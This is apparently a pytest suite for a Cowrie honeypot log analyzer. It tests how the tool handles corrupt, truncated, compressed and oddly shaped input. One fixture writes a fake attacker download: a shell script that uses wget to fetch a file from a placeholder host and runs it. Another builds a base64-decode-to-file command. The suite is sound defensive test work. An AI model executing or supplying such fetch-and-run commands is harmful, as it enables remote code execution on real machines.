"""Broken-input matrix. Every case is generated at test time in a tmp dir and checks: no crash,
the valid events are kept, the right reject reason and count, and the exit code
(1 when something was skipped or rejected, 0 when nothing is wrong)."""

import bz2
import gzip
import json
import os
import shutil
import struct
import subprocess

import pytest

import cbtest
from cbtest import analyze, clean_log, dumps, session_events

BASE = clean_log(3)  # 3 sessions, 18 events, 6 commands, 3 successful logins


def write(path, data: bytes):
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data)
    return path


def check_clean_sessions(res, n_events=len(BASE)):
    """The three BASE sessions came through complete."""
    s = res.summary
    assert s["inputs"]["events"] == n_events
    assert s["sessions"] == 3
    assert s["commands"] == 6
    assert s["logins"] == {"attempts": 3, "success": 3}
    assert [len(x["commands"]) for x in res.sessions] == [2, 2, 2]


def check_rejects(res, expected: dict):
    s = res.summary["inputs"]
    assert s["rejected"] == expected
    assert s["rejected_total"] == sum(expected.values())
    assert s["lines"] == s["events"] + s["rejected_total"]


# ---------------------------------------------------------------------------------------------


def test_clean_log_exit_0(cb_bin, tmp_path):
    write(tmp_path / "in" / "cowrie.json", dumps(BASE))
    res = analyze(cb_bin, tmp_path / "in", tmp_path / "out")
    assert res.rc == 0, res.explain()
    check_clean_sessions(res)
    check_rejects(res, {})
    assert res.stderr == b""


def test_leading_nul_run(cb_bin, tmp_path):
    write(tmp_path / "in" / "cowrie.json", b"\0" * 540_597 + dumps(BASE))
    res = analyze(cb_bin, tmp_path / "in", tmp_path / "out")
    assert res.rc == 0, res.explain()
    check_clean_sessions(res)
    check_rejects(res, {})
    assert res.summary["inputs"]["nul_bytes_skipped"] == 540_597


def test_cut_last_line_is_truncated_line(cb_bin, tmp_path):
    extra = json.dumps(session_events("ffffffffffff", 9000)[0]).encode()
    f = write(tmp_path / "in" / "cowrie.json", dumps(BASE) + extra[: len(extra) // 2])
    res = analyze(cb_bin, tmp_path / "in", tmp_path / "out")
    assert res.rc == 1, res.explain()
    check_clean_sessions(res)
    check_rejects(res, {"truncated_line": 1})
    sample = res.summary["inputs"]["reject_samples"][0]
    assert sample["reason"] == "truncated_line"
    assert sample["where"] == f"{f}:{len(BASE) + 1}"
    assert len(res.err.strip().splitlines()) == 1 and str(f) in res.err


def test_crlf_line_endings(cb_bin, tmp_path):
    write(tmp_path / "in" / "cowrie.json", dumps(BASE).replace(b"\n", b"\r\n"))
    res = analyze(cb_bin, tmp_path / "in", tmp_path / "out")
    assert res.rc == 0, res.explain()
    check_clean_sessions(res)
    check_rejects(res, {})
    # no stray \r leaks into the values
    assert all(not c["input"].endswith("\r") for x in res.sessions for c in x["commands"])
    assert {x["sensor"] for x in res.sessions} == {"sensor-a"}


def test_blank_lines(cb_bin, tmp_path):
    lines = dumps(BASE).split(b"\n")
    data = b"\n\n" + b"\n   \n\t\n".join(lines) + b"\n\n"
    write(tmp_path / "in" / "cowrie.json", data)
    res = analyze(cb_bin, tmp_path / "in", tmp_path / "out")
    assert res.rc == 0, res.explain()
    check_clean_sessions(res)
    check_rejects(res, {})
    assert res.summary["inputs"]["blank_lines"] > 0


def test_invalid_json_in_the_middle(cb_bin, tmp_path):
    lines = dumps(BASE).splitlines(keepends=True)
    bad = [b'{"eventid": "cowrie.command.input", "input": broken\n', b'{"eventid":"x",,}\n']
    f = write(tmp_path / "in" / "cowrie.json", b"".join(lines[:5] + bad + lines[5:]))
    res = analyze(cb_bin, tmp_path / "in", tmp_path / "out")
    assert res.rc == 1, res.explain()
    check_clean_sessions(res)
    check_rejects(res, {"invalid_json": 2})
    wheres = [x["where"] for x in res.summary["inputs"]["reject_samples"]]
    assert wheres == [f"{f}:6", f"{f}:7"]
    assert res.err.count("\n") == 1, "one stderr line per problem file"


@pytest.mark.parametrize("line, reason", [
    (b'{"input":"x","session":"aaaaaaaaaaaa","timestamp":"2024-03-01T00:00:00Z"}', "missing_eventid"),
    (b'{"eventid":"cowrie.command.input","input":"x","session":"aaaaaaaaaaaa"}', "bad_timestamp"),
    (b'{"eventid":"cowrie.command.input","session":"a","timestamp":"yesterday"}', "bad_timestamp"),
    (b'[1, 2, 3]', "not_an_object"),
    (b'"just a string"', "not_an_object"),
])
def test_reject_reasons(cb_bin, tmp_path, line, reason):
    lines = dumps(BASE).splitlines(keepends=True)
    write(tmp_path / "in" / "cowrie.json", b"".join(lines[:3] + [line + b"\n"] + lines[3:]))
    res = analyze(cb_bin, tmp_path / "in", tmp_path / "out")
    assert res.rc == 1, res.explain()
    check_clean_sessions(res)
    check_rejects(res, {reason: 1})


def test_timestamp_offsets_are_normalised(cb_bin, tmp_path):
    """Cowrie with TZ != UTC writes `+0200` offsets; v1.x drops the fraction when it is 0."""
    evs = session_events("0123456789ab", 0, commands=("a", "b"))
    evs[0]["timestamp"] = "2024-03-01T02:00:00.000000+0200"   # = 00:00:00Z
    evs[3]["timestamp"] = "2024-03-01T00:00:03Z"
    evs[-1]["timestamp"] = "2024-02-29T19:00:05.000000-0500"  # = 00:00:05Z
    write(tmp_path / "in" / "cowrie.json", dumps(evs))
    res = analyze(cb_bin, tmp_path / "in", tmp_path / "out")
    assert res.rc == 0, res.explain()
    s = res.session("0123456789ab")
    assert s["start"] == "2024-03-01T00:00:00.000000Z"
    assert s["end"] == "2024-03-01T00:00:05.000000Z"
    assert s["commands"][0]["time"] == "2024-03-01T00:00:03.000000Z"


def test_wrong_types_keep_the_event(cb_bin, tmp_path):
    evs = session_events("0123456789ab", 0, commands=("uname -a",), duration="abc")
    evs[0]["src_port"] = "40000"
    evs[0]["dst_port"] = "2222"
    evs[2]["password"] = 123456  # number instead of string
    write(tmp_path / "in" / "cowrie.json", dumps(evs))
    res = analyze(cb_bin, tmp_path / "in", tmp_path / "out")
    assert res.rc == 0, res.explain()
    check_rejects(res, {})
    assert res.summary["inputs"]["events"] == len(evs)
    assert res.summary["inputs"]["type_errors"] == 1  # the "abc" duration
    # the numeric password is taken as its text (issue #11)
    assert res.summary["inputs"]["field_errors"] == {"duration": {"wrong_type": 1}, "password": {"coerced": 1}}
    s = res.session("0123456789ab")
    assert s["src_port"] == 40000 and s["dst_port"] == 2222  # numeric strings are accepted
    assert s["closed"] is True
    assert s["duration_s"] == pytest.approx(4.0)  # "abc" ignored: end - start
    assert s["login_attempts"] == 1 and s["commands"][0]["input"] == "uname -a"
    assert s["logins"][0]["password"] == "123456"


def test_invalid_utf8_inside_strings(cb_bin, tmp_path):
    evs = session_events("0123456789ab", 0, commands=("echo PLACEHOLDER1",), user="PLACEHOLDER2")
    raw = dumps(evs).replace(b"PLACEHOLDER1", b"\xff\xfe ok").replace(b"PLACEHOLDER2", b"r\xc3t\x80")
    write(tmp_path / "in" / "cowrie.json", raw)
    res = analyze(cb_bin, tmp_path / "in", tmp_path / "out")
    assert res.rc == 0, res.explain()
    check_rejects(res, {})
    assert res.summary["inputs"]["events"] == len(evs)
    assert res.summary["inputs"]["utf8_repairs"] >= 2
    s = res.session("0123456789ab")
    assert s["commands"][0]["input"] == "echo \\xff\\xfe ok"  # literal backslash-x text
    assert s["logins"][0]["username"] == "r\\xc3t\\x80"
    # outputs stay valid UTF-8 everywhere
    (res.out / "sessions.jsonl").read_bytes().decode("utf-8")
    for f in (res.out / "tables").glob("*.csv"):
        f.read_bytes().decode("utf-8")
    assert res.query("SELECT input FROM commands") == [("echo \\xff\\xfe ok",)]


def test_valid_utf8_is_not_escaped(cb_bin, tmp_path):
    evs = session_events("0123456789ab", 0, commands=("echo привет 你好",), password="пароль")
    write(tmp_path / "in" / "cowrie.json", json.dumps(evs[0]).encode() + b"\n" +
          b"".join(json.dumps(e, ensure_ascii=False).encode() + b"\n" for e in evs[1:]))
    res = analyze(cb_bin, tmp_path / "in", tmp_path / "out")
    assert res.rc == 0, res.explain()
    assert res.summary["inputs"]["utf8_repairs"] == 0
    s = res.session("0123456789ab")
    assert s["commands"][0]["input"] == "echo привет 你好"
    assert s["logins"][0]["password"] == "пароль"


def test_50mb_valid_line_is_kept(cb_bin, tmp_path):
    big = "A" * (50 << 20)
    evs = session_events("0123456789ab", 0, commands=("uname -a", "echo " + big, "id"))
    write(tmp_path / "in" / "cowrie.json", dumps(BASE + evs))
    res = analyze(cb_bin, tmp_path / "in", tmp_path / "out")
    try:
        assert res.rc == 0, res.explain()
        check_rejects(res, {})
        assert res.summary["inputs"]["events"] == len(BASE) + len(evs)
        assert res.summary["commands"] == 6 + 3
        s = res.session("0123456789ab")
        assert [len(c["input"]) for c in s["commands"]] == [8, len(big) + 5, 2]
        assert s["commands"][1]["input"] == "echo " + big
    finally:
        shutil.rmtree(tmp_path, ignore_errors=True)  # ~400 MB of outputs


def test_50mb_invalid_line_is_rejected(cb_bin, tmp_path):
    lines = dumps(BASE).splitlines(keepends=True)
    bad = b'{"eventid":"cowrie.command.input","input":"' + b"A" * (50 << 20) + b"\n"  # never closed
    f = write(tmp_path / "in" / "cowrie.json", b"".join(lines[:4] + [bad] + lines[4:]))
    res = analyze(cb_bin, tmp_path / "in", tmp_path / "out")
    try:
        assert res.rc == 1, res.explain()
        check_clean_sessions(res)
        check_rejects(res, {"invalid_json": 1})
        sample = res.summary["inputs"]["reject_samples"][0]
        assert sample["where"] == f"{f}:5"
        assert len(sample["excerpt"]) < 1000, "the excerpt must be short, not the 50 MB line"
    finally:
        shutil.rmtree(tmp_path, ignore_errors=True)


DEPTH = 200_000
HEAD = '{"eventid":"cowrie.command.input","session":"aaaaaaaaaaaa","sensor":"s","timestamp":"2024-03-01T00:00:00Z",'
DEEP_LINES = {
    "array": "[" * DEPTH + "]" * DEPTH,
    "object-chain": '{"a":' * DEPTH + "1" + "}" * DEPTH,
    "inside-event": HEAD + '"x":' + "[" * DEPTH + "]" * DEPTH + "}",
    "unbalanced": HEAD + '"x":' + "[" * DEPTH + "}",
}


@pytest.mark.parametrize("shape", DEEP_LINES)
def test_deep_nesting_no_crash(cb_bin, tmp_path, shape):
    lines = dumps(BASE).splitlines(keepends=True)
    write(tmp_path / "in" / "cowrie.json", b"".join(lines[:2] + [DEEP_LINES[shape].encode() + b"\n"] + lines[2:]))
    res = analyze(cb_bin, tmp_path / "in", tmp_path / "out")
    assert res.rc in (0, 1), res.explain()
    s = res.summary["inputs"]
    assert s["lines"] == len(BASE) + 1
    assert s["lines"] == s["events"] + s["rejected_total"]
    assert res.summary["sessions"] >= 3 and res.summary["logins"] == {"attempts": 3, "success": 3}
    if shape == "unbalanced":
        # Deeper than simdjson's limit and unbalanced: the depth is the reason reported.
        check_rejects(res, {"too_deep": 1})
        assert res.rc == 1
    if shape == "inside-event":
        # A deep value under a key the tool never reads is skipped, not parsed: the event is kept.
        assert res.rc == 0 and s["rejected_total"] == 0 and s["events"] == len(BASE) + 1


@pytest.mark.parametrize("shape", ["array", "object-chain"])
def test_deep_nesting_reason_is_too_deep(cb_bin, tmp_path, shape):
    lines = dumps(BASE).splitlines(keepends=True)
    write(tmp_path / "in" / "cowrie.json", b"".join(lines[:2] + [DEEP_LINES[shape].encode() + b"\n"] + lines[2:]))
    res = analyze(cb_bin, tmp_path / "in", tmp_path / "out")
    assert res.rc == 1, res.explain()
    check_clean_sessions(res)
    check_rejects(res, {"too_deep": 1})


# --------------------------------------------------------------------------------------------- compression


def big_log(n=3000):
    evs = []
    for i in range(n // 6):
        evs += session_events(f"{i:012x}", i * 10, commands=(f"echo {i}", "uname -a"))
    return evs


def test_truncated_gzip_keeps_every_line_before_the_cut(cb_bin, tmp_path):
    evs = big_log()
    gz = gzip.compress(dumps(evs), compresslevel=6)
    cut = gz[: len(gz) // 2]
    f = write(tmp_path / "in" / "cowrie.json.1.gz", cut)
    n_lines, tail = cbtest.complete_lines_of_truncated_gzip(cut)
    assert 100 < n_lines < len(evs)
    res = analyze(cb_bin, tmp_path / "in", tmp_path / "out")
    assert res.rc == 1, res.explain()
    s = res.summary["inputs"]
    assert s["events"] == n_lines
    check_rejects(res, {"truncated_line": 1} if tail else {})
    assert len(s["damaged_files"]) == 1
    d = s["damaged_files"][0]
    assert d["path"] == str(f) and d["events_kept"] == n_lines and d["error"]
    kept = {(x["session"]) for x in res.sessions}
    want = {e["session"] for e in evs[:n_lines]}
    assert kept == want
    assert str(f) in res.err


def test_gzip_multi_member(cb_bin, tmp_path):
    """`cat a.gz b.gz` is a valid gzip file; both members must be read."""
    data = dumps(BASE)
    half = data.index(b"\n", len(data) // 2) + 1
    write(tmp_path / "in" / "cowrie.json.2.gz", gzip.compress(data[:half]) + gzip.compress(data[half:]))
    res = analyze(cb_bin, tmp_path / "in", tmp_path / "out")
    assert res.rc == 0, res.explain()
    check_clean_sessions(res)
    assert res.summary["inputs"]["compression"] == {"gzip": 1}


# pzstd starts its files with a zstd skippable frame, not the frame magic (found by fuzz_decoders).
@pytest.mark.parametrize("tool, ext, name", [("bzip2", "bz2", "bzip2"), ("zstd", "zst", "zstd"), ("pzstd", "zst", "zstd")])
def test_bzip2_and_zstd(cb_bin, tmp_path, tool, ext, name):
    if not shutil.which(tool):
        pytest.skip(f"{tool} CLI not installed (make deps installs it)")
    plain = dumps(BASE)
    comp = subprocess.run([tool, "-c"], input=plain, capture_output=True, check=True).stdout
    write(tmp_path / "in" / f"cowrie.json.1.{ext}", comp)
    # the name does not matter, the content does
    write(tmp_path / "in2" / "cowrie.json", comp)
    for d in ("in", "in2"):
        res = analyze(cb_bin, tmp_path / d, tmp_path / f"out-{d}")
        assert res.rc == 0, res.explain()
        check_clean_sessions(res)
        assert res.summary["inputs"]["compression"] == {name: 1}
        assert res.summary["inputs"]["decoded_bytes"] == len(plain)


@pytest.mark.parametrize("tool, ext", [("gzip", "gz"), ("zstd", "zst")])
def test_truncated_gzip_or_zstd_file_is_damaged(cb_bin, tmp_path, tool, ext):
    if not shutil.which(tool):
        pytest.skip(f"{tool} CLI not installed (make deps installs it)")
    comp = subprocess.run([tool, "-c"], input=dumps(big_log()), capture_output=True, check=True).stdout
    f = write(tmp_path / "in" / f"cowrie.json.3.{ext}", comp[: len(comp) * 2 // 3])
    res = analyze(cb_bin, tmp_path / "in", tmp_path / "out")
    assert res.rc == 1, res.explain()
    d = res.summary["inputs"]["damaged_files"]
    assert [x["path"] for x in d] == [str(f)]
    assert d[0]["events_kept"] == res.summary["inputs"]["events"] > 0


def test_truncated_gzip_one_stderr_line(cb_bin, tmp_path):
    gz = gzip.compress(dumps(big_log()))
    cut = gz[: len(gz) // 2]
    assert cbtest.complete_lines_of_truncated_gzip(cut)[1], "the cut must fall inside a line"
    f = write(tmp_path / "in" / "cowrie.json.1.gz", cut)
    res = analyze(cb_bin, tmp_path / "in", tmp_path / "out")
    assert res.rc == 1
    lines = res.err.strip().splitlines()
    assert len(lines) == 1 and str(f) in lines[0], lines


@pytest.mark.parametrize("case", ["bzip2-cut", "gzip-header-only", "bzip2-garbage"])
def test_undecodable_compressed_file_is_reported(cb_bin, tmp_path, case):
    data = dumps(big_log(600))
    bz = bz2.compress(data)
    blob = {"bzip2-cut": lambda: bz[: len(bz) // 2],  # one 900k block: nothing decodable before the cut
            "gzip-header-only": lambda: gzip.compress(data)[:12],
            "bzip2-garbage": lambda: b"BZh91AY&SY" + bytes(range(256)) * 4}[case]()
    write(tmp_path / "in" / "cowrie.json", dumps(BASE))
    bad = write(tmp_path / "in" / "cowrie.json.1.x", blob)
    res = analyze(cb_bin, tmp_path / "in", tmp_path / "out")
    check_clean_sessions(res)
    listed = [x["path"] for x in res.summary["inputs"]["damaged_files"] + res.summary["inputs"]["skipped_files"]]
    assert str(bad) in listed
    assert str(bad) in res.err
    assert res.rc == 1


# --------------------------------------------------------------------------------------------- files & folders


def test_symlink_loop_in_folder(cb_bin, tmp_path):
    d = tmp_path / "in"
    write(d / "cowrie.json", dumps(BASE))
    (d / "sub").mkdir()
    os.symlink("..", d / "sub" / "up")       # folder loop
    os.symlink("self", d / "self")             # link to itself (ELOOP)
    res = analyze(cb_bin, d, tmp_path / "out")
    assert res.rc == 1, res.explain()
    check_clean_sessions(res)  # the log is read once, not once per loop turn
    skipped = {x["path"] for x in res.summary["inputs"]["skipped_files"]}
    assert skipped == {str(d / "sub" / "up"), str(d / "self")}
    assert res.summary["inputs"]["files"] == 1
    assert len(res.err.strip().splitlines()) == 2


def test_empty_file_beside_a_log(cb_bin, tmp_path):
    write(tmp_path / "in" / "cowrie.json", dumps(BASE))
    empty = write(tmp_path / "in" / "cowrie.json.2024-03-02", b"")
    res = analyze(cb_bin, tmp_path / "in", tmp_path / "out")
    assert res.rc == 0, res.explain()
    check_clean_sessions(res)
    assert res.summary["inputs"]["other_files"] == {"empty": [str(empty)]}


def test_empty_file_alone_is_no_event_log(cb_bin, tmp_path):
    empty = write(tmp_path / "cowrie.json", b"")
    res = analyze(cb_bin, empty, tmp_path / "out")
    assert res.rc == 2, res.explain()
    assert "no Cowrie JSON event log" in res.err


def tty_log(t=1700000000):
    rec = lambda op, direction, data=b"": struct.pack("<iLiiLL", op, 0, len(data), direction, t, 0) + data
    return rec(1, 0) + rec(3, 1, b"uname -a\r") + rec(3, 2, b"Linux svr04 3.2.0-4-amd64\r\n") + rec(2, 0)


def test_folder_mixing_text_log_tty_and_download(cb_bin, tmp_path):
    d = tmp_path / "in"
    write(d / "log" / "cowrie.json", dumps(BASE))
    text = write(d / "log" / "cowrie.log",
                 b"2024-03-01T00:00:00.000000Z [-] Ready to accept SSH connections\n"
                 b"2024-03-01T00:00:01.000000Z [cowrie.ssh.factory.CowrieSSHFactory] New connection: "
                 b"203.0.113.7:40000 (10.0.0.5:2222) [session: a00000000000]\n")
    tty = write(d / "tty" / ("ab" * 32), tty_log())
    elf = write(d / "downloads" / ("cd" * 32), b"\x7fELF\x02\x01\x01" + bytes(range(256)) * 64)
    script = write(d / "downloads" / ("ef" * 32), b"#!/bin/sh\ncd /tmp; wget http://x/y; sh y\n")
    res = analyze(cb_bin, d, tmp_path / "out")
    assert res.rc == 0, res.explain()
    check_clean_sessions(res)
    check_rejects(res, {})
    other = res.summary["inputs"]["other_files"]
    assert other.get("text_log") == [str(text)]
    assert other.get("tty_log") == [str(tty)]
    assert sorted(other.get("other", [])) == sorted([str(elf), str(script)])
    assert res.summary["inputs"]["files"] == 1


# --------------------------------------------------------------------------------------------- known bugs


def test_v3_log_starting_with_a_long_command_line(cb_bin, tmp_path):
    first = {"session": "0123456789ab", "protocol": "ssh", "src_ip": "203.0.113.7", "src_port": 40000,
             "dst_ip": "10.0.0.5", "dst_port": 2222, "input": "echo " + "QUFB" * 25_000 + " | base64 -d > x",
             "eventid": "cowrie.command.input", "sensor": "sensor-a", "timestamp": cbtest.ts(-1),
             "message": "CMD: ..."}
    write(tmp_path / "in" / "cowrie.json.2024-02-29", dumps(clean_log(1, prefix="b")))
    f = write(tmp_path / "in" / "cowrie.json", dumps([first] + BASE))
    res = analyze(cb_bin, tmp_path / "in", tmp_path / "out")
    assert str(f) not in json.dumps(res.summary["inputs"]["other_files"])
    assert res.summary["inputs"]["events"] == 1 + len(BASE) + 6
    assert res.rc == 0


def test_impossible_date_is_bad_timestamp(cb_bin, tmp_path):
    lines = dumps(BASE).splitlines(keepends=True)
    bad = b'{"eventid":"cowrie.session.connect","session":"feb30feb30ff","sensor":"s","timestamp":"2024-02-30T00:00:03Z"}\n'
    write(tmp_path / "in" / "cowrie.json", b"".join(lines + [bad]))
    res = analyze(cb_bin, tmp_path / "in", tmp_path / "out")
    check_rejects(res, {"bad_timestamp": 1})
    assert res.rc == 1


def test_missing_terminal_height_is_null(cb_bin, tmp_path):
    evs = session_events("0123456789ab", 0)
    evs.insert(3, {"eventid": "cowrie.client.size", "width": 120, "session": "0123456789ab", "sensor": "sensor-a",
                   "timestamp": evs[2]["timestamp"]})
    write(tmp_path / "in" / "cowrie.json", dumps(evs))
    res = analyze(cb_bin, tmp_path / "in", tmp_path / "out")
    assert res.rc == 0, res.explain()
    assert res.session("0123456789ab")["terminal"] in (None, {"width": 120, "height": None})
